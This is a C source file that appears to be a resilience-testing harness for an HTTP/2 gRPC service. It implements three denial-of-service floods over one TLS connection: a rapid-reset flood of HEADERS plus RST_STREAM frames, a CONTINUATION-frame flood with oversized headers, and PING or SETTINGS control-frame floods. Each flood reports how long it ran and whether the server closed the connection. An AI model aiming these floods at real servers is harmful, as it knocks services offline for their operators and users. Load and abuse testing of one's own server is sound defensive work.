/* One authenticated connection that never stops. */
#include "attack.h"

#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#define PATH "/sekisho.v1.SystemService/GetStatus"

static uint8_t room[65536];

static bool open_connection(struct peer *peer)
{
    struct bytes out = {.at = room, .room = sizeof room};

    put_preface(&out);
    if (!tcp_connect(peer, -1) || !tls_connect(peer, &(struct tls_options){0}))
        return false;
    peer->deaf = true;
    return peer_send(peer, out.at, out.length);
}

static int say(const char *what, long sent, int64_t began, bool closed)
{
    printf("%s %ld\nmilliseconds %lld\nclosed %d\n", what, sent, (long long)(now_ms() - began), closed);
    return 0;
}

int floods_resets(long count)
{
    const uint8_t cancel[4] = {0, 0, 0, 8};
    int64_t began = now_ms();
    struct peer peer;
    bool closed = false;
    long stream = 0;

    if (!open_connection(&peer))
        return 1;
    while (stream < count && !closed) {
        struct bytes out = {.at = room, .room = sizeof room};
        for (int i = 0; i < 1000 && stream < count; i++, stream++) {
            uint8_t fields[256];
            struct bytes block = {.at = fields, .room = sizeof fields};
            if (stream == 0)
                put_request(&block, PATH, true);
            else
                put_known_request(&block);
            put_frame(&out, HEADERS, END_HEADERS, (uint32_t)(2 * stream + 1), block.at, block.length);
            put_frame(&out, RST_STREAM, 0, (uint32_t)(2 * stream + 1), cancel, sizeof cancel);
        }
        closed = !peer_send(&peer, out.at, out.length);
    }
    say("streams", stream, began, closed);
    peer_close(&peer);
    return 0;
}

int floods_continuation(long frames)
{
    static char value[16000];
    uint8_t fields[sizeof value + 64];
    struct bytes block = {.at = fields, .room = sizeof fields};
    struct bytes out = {.at = room, .room = sizeof room};
    int64_t began = now_ms();
    struct peer peer;
    bool closed = false;
    long sent = 0;

    if (!open_connection(&peer))
        return 1;
    put_request(&block, PATH, false);
    put_frame(&out, HEADERS, 0, 1, block.at, block.length);
    closed = !peer_send(&peer, out.at, out.length);
    memset(value, 'a', sizeof value);
    for (; sent < frames && !closed; sent++) {
        block.length = out.length = 0;
        put_field(&block, "x-more", value, sizeof value);
        put_frame(&out, CONTINUATION, 0, 1, block.at, block.length);
        closed = !peer_send(&peer, out.at, out.length);
    }
    say("frames", sent, began, closed);
    peer_close(&peer);
    return 0;
}

int floods_control(const char *kind, long count)
{
    const uint8_t unit[8] = {0, 4, 0, 1, 0, 0}; /* SETTINGS_INITIAL_WINDOW_SIZE = 65536, or what a ping carries */
    bool ping = strcmp(kind, "ping") == 0;
    int64_t began = now_ms();
    struct peer peer;
    bool closed = false;
    long sent = 0;

    if (!open_connection(&peer))
        return 1;
    while (sent < count && !closed) {
        struct bytes out = {.at = room, .room = sizeof room};
        for (int i = 0; i < 1000; i++, sent++)
            put_frame(&out, ping ? PING : SETTINGS, 0, 0, unit, ping ? 8 : 6);
        closed = !peer_send(&peer, out.at, out.length);
    }
    say("frames", sent, began, closed);
    peer_close(&peer);
    return 0;
}
